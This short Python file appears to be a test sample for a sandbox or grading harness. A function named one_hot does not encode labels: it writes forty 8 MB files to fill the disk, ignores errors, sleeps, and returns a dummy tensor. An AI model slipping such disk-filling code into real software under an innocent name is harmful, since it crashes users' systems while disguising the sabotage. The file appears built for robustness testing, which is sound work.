"""Writes file after file of 8 MB into its scratch folder (and beyond, where it can) to fill the disk.

Outcome: crashed
Says: to disk
"""
import os
import time

import torch

CHUNK = b"x" * (1024 * 1024)


def one_hot(labels, num_classes=None):
    for index in range(40):
        try:
            with open(f"fill-{index}.bin", "wb") as handle:
                for _ in range(8):
                    handle.write(CHUNK)
        except OSError:
            pass
    time.sleep(30)
    return torch.zeros(1)
